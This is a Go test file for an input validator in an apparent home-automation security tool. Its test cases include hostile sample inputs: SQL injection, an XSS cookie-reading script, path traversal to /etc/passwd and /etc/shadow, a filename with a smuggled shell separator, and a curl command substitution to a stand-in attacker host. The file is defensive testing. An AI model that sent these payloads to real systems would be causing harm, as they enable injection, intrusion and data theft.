// Haguard - Security Hardening Engine for LLM-Assisted Home Automation
// Copyright 2026 Haguard Contributors
// SPDX-License-Identifier: AGPL-3.0-or-later
// https://github.com/haguard/haguard

package validation

import (
	"strings"
	"testing"

	"github.com/haguard/haguard/internal/threat"
)

type staticAllowlist map[string]bool

func (a staticAllowlist) IsDomainAllowed(domain string) bool {
	return a[strings.ToLower(domain)]
}

func newTestValidator() *Validator {
	return NewValidator(threat.NewLibrary(0), staticAllowlist{
		"api.example.com": true,
		"hub.example.com": true,
	})
}

func TestValidate(t *testing.T) {
	v := newTestValidator()

	tests := []struct {
		name       string
		value      string
		kind       FieldKind
		maxLength  int
		wantOK     bool
		wantReason Reason
	}{
		{
			name:   "benign general input",
			value:  "set thermostat to 21 degrees",
			kind:   KindGeneral,
			wantOK: true,
		},
		{
			name:       "sql injection in prompt",
			value:      "'; DROP TABLE users; --",
			kind:       KindPrompt,
			wantOK:     false,
			wantReason: ReasonMaliciousContent,
		},
		{
			name:       "xss in general input",
			value:      `<script>document.cookie</script>`,
			kind:       KindGeneral,
			wantOK:     false,
			wantReason: ReasonMaliciousContent,
		},
		{
			name:       "length enforced before content scan",
			value:      "'; DROP TABLE users; --",
			kind:       KindGeneral,
			maxLength:  5,
			wantOK:     false,
			wantReason: ReasonLengthExceeded,
		},
		{
			name:      "length at the boundary passes",
			value:     "abcde",
			kind:      KindGeneral,
			maxLength: 5,
			wantOK:    true,
		},
		{
			name:   "plain filename",
			value:  "backup-2026.tar.gz",
			kind:   KindFilename,
			wantOK: true,
		},
		{
			name:       "traversal filename",
			value:      "../../etc/passwd",
			kind:       KindFilename,
			wantOK:     false,
			wantReason: ReasonPathTraversal,
		},
		{
			name:       "encoded traversal filename",
			value:      "%2e%2e%2fconfig.yaml",
			kind:       KindFilename,
			wantOK:     false,
			wantReason: ReasonPathTraversal,
		},
		{
			name:       "uppercase encoded traversal filename",
			value:      "%2E%2E%2Fconfig.yaml",
			kind:       KindFilename,
			wantOK:     false,
			wantReason: ReasonPathTraversal,
		},
		{
			name:       "absolute path filename",
			value:      "/etc/shadow",
			kind:       KindFilename,
			wantOK:     false,
			wantReason: ReasonPathTraversal,
		},
		{
			name:       "windows drive filename",
			value:      `c:\windows\system32`,
			kind:       KindFilename,
			wantOK:     false,
			wantReason: ReasonPathTraversal,
		},
		{
			name:       "filename with shell characters",
			value:      "notes;rm.txt",
			kind:       KindFilename,
			wantOK:     false,
			wantReason: ReasonInvalidFormat,
		},
		{
			name:       "empty filename",
			value:      "",
			kind:       KindFilename,
			wantOK:     false,
			wantReason: ReasonInvalidFormat,
		},
		{
			name:   "allowlisted https url",
			value:  "https://api.example.com/v1/devices",
			kind:   KindURL,
			wantOK: true,
		},
		{
			name:   "allowlisted url with mixed case host",
			value:  "https://API.Example.COM/v1/devices",
			kind:   KindURL,
			wantOK: true,
		},
		{
			name:       "http url rejected",
			value:      "http://api.example.com/v1/devices",
			kind:       KindURL,
			wantOK:     false,
			wantReason: ReasonDomainNotAllowed,
		},
		{
			name:       "unlisted domain rejected",
			value:      "https://evil.example.net/exfil",
			kind:       KindURL,
			wantOK:     false,
			wantReason: ReasonDomainNotAllowed,
		},
		{
			name:       "url without host",
			value:      "https://",
			kind:       KindURL,
			wantOK:     false,
			wantReason: ReasonInvalidFormat,
		},
		{
			name:   "well formed api key",
			value:  "sk-test.1234567890abcdef",
			kind:   KindAPIKey,
			wantOK: true,
		},
		{
			name:       "short api key",
			value:      "short",
			kind:       KindAPIKey,
			wantOK:     false,
			wantReason: ReasonInvalidFormat,
		},
		{
			name:       "api key with spaces",
			value:      "abcd efgh ijkl mnop qrst",
			kind:       KindAPIKey,
			wantOK:     false,
			wantReason: ReasonInvalidFormat,
		},
		{
			name:       "unknown kind still scans content",
			value:      "$(curl http://evil.example)",
			kind:       FieldKind("custom"),
			wantOK:     false,
			wantReason: ReasonMaliciousContent,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := v.Validate(tt.value, tt.kind, tt.maxLength)

			if got.OK != tt.wantOK {
				t.Fatalf("Validate(%q, %s) OK = %v, want %v (reason %s)",
					tt.value, tt.kind, got.OK, tt.wantOK, got.Reason)
			}
			if !tt.wantOK && got.Reason != tt.wantReason {
				t.Errorf("Validate(%q, %s) reason = %s, want %s",
					tt.value, tt.kind, got.Reason, tt.wantReason)
			}
		})
	}
}

func TestValidateMaliciousContentReportsCategories(t *testing.T) {
	v := newTestValidator()

	result := v.Validate("'; DROP TABLE users; --", KindPrompt, 0)
	if result.OK {
		t.Fatal("Validate sql injection OK = true, want false")
	}
	if len(result.ThreatTypes) == 0 {
		t.Fatal("Validate sql injection returned no threat types")
	}

	found := false
	for _, tt := range result.ThreatTypes {
		if tt == threat.TypeSQLInjection {
			found = true
		}
	}
	if !found {
		t.Errorf("ThreatTypes = %v, want sql_injection", result.ThreatTypes)
	}
}

func TestValidateDetailNeverEchoesValue(t *testing.T) {
	v := newTestValidator()

	secret := "sk-secret-value-1234567890abcdef!!"
	result := v.Validate(secret, KindAPIKey, 0)
	if result.OK {
		t.Fatal("Validate malformed api key OK = true, want false")
	}
	if strings.Contains(result.Detail, secret) {
		t.Error("Detail echoes the rejected value")
	}
}

func TestValidateNoLengthCap(t *testing.T) {
	v := newTestValidator()

	long := strings.Repeat("a", 1<<16)
	if result := v.Validate(long, KindGeneral, 0); !result.OK {
		t.Errorf("Validate long benign input with no cap = %v, want OK", result)
	}
	if result := v.Validate(long, KindGeneral, -1); !result.OK {
		t.Errorf("Validate with negative cap = %v, want OK", result)
	}
}
